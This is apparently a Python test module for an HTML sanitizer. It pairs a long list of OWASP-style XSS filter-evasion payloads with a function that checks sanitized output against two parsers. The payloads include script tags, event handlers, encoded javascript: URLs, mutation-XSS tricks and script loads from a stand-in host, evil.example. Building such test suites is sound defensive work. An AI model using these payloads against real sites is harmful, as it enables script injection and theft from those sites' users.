"""Attacks in the manner of OWASP's filter evasion sheet, and a judge of what is left of them, by parsers not ours."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

from selectolax.lexbor import LexborHTMLParser

ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset", "cite", "xlink:href"}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "link", "meta", "base",
    "template", "frame", "frameset", "applet", "video", "audio", "select", "textarea", "noscript", "xmp", "title",
}  # fmt: skip

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script/xss src=//evil.example></script>",
    "<script\x0b>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example?<b>",
    "<!--<script>--><script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<img src="javascript:alert(1)">',
    "<img src=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='https://a.example/x.jpg' ONERROR=alert(1) style=x:y>",
    '<img src="https://a.example/&quot; onerror=&quot;alert(1)">',
    "<img src='https://a.example/x.jpg' alt='\"><script>alert(1)</script>'>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://a.example/x" width="1 onload=alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#58;a">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="\u202ejavascript:alert(1)">x</a>',
    '<a href="java\ufeffscript:alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https:javascript:alert(1)">x</a>',
    '<a href="//evil.example\\@good.example/">x</a>',
    '<a href="https://good.example@evil.example/">x</a>',
    '<a href="https://a.example/" onclick=alert(1)>x</a>',
    '<a href="https://a.example/"/onmouseover="alert(1)">x</a>',
    "<a href='https://a.example/' title='\" onmouseover=alert(1) x=\"'>x</a>",
    "<a href=https://a.example/\"onmouseover=alert(1)>x</a>",
    '<a href="https://a.example/?a=1&lt;script&gt;">x</a>',
    "<b onmouseover=alert(1)>x</b>",
    '<b style="background:url(javascript:alert(1))">x</b>',
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p STYLE='behavior:url(x.htc)'>x</p>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>x</svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='https://v.example/\"><script>alert(1)</script>' title='\"><script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<blockquote class=twitter-tweet>x <a href=javascript:alert(1)>y</a></blockquote>",
    "<blockquote class=instagram-media data-instgrm-permalink=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<span lang='\"><script>alert(1)</script>' dir='\" onclick=alert(1)'>x</span>",
    "<x onclick=alert(1)>x</x>",
    "<a\x0chref\x0c=\x0cjavascript:alert(1)>x</a>",
    "<b/onclick=alert(1)//>x",
    "<b <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<figure><figcaption>&lt;script&gt;alert(1)&lt;/script&gt;</figcaption><img src=https://a.example/x.jpg></figure>",
    "<cite>&lt;img src=x onerror=alert(1)&gt;</cite>",
    "\ufdd0lt;script>alert(1)\ufdd0lt;/script>",
    "<a href='https://a.example/\ufdd0quot; onclick=alert(1)'>x</a>",
]  # fmt: skip


def dangers(markup: str) -> list[str]:
    """What in `markup` could run, load or lead where it must not, as two independent parsers see it."""
    return _judge(_stdlib_elements(markup)) + _judge(_lexbor_elements(markup))


def _stdlib_elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    elements: list[tuple[str, dict[str, str]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            elements.append((tag, {name: value or "" for name, value in attrs}))

    collector = Collector()
    collector.feed(markup)
    collector.close()
    return elements


def _lexbor_elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    body = LexborHTMLParser(markup).body
    assert body is not None
    found = [(node.tag or "", node.attributes) for node in body.css("*")]
    return [(tag, {name: value or "" for name, value in attributes.items()}) for tag, attributes in found]


def _judge(elements: list[tuple[str, dict[str, str]]]) -> list[str]:
    bad = [f"<{tag}>" for tag, _ in elements if tag in FORBIDDEN_TAGS]
    for tag, attributes in elements:
        for name, value in attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "id", "name", "class"):
                bad.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and urlsplit(value).scheme.lower() not in ALLOWED_SCHEMES:
                bad.append(f"<{tag} {name}={value}>")
    return bad
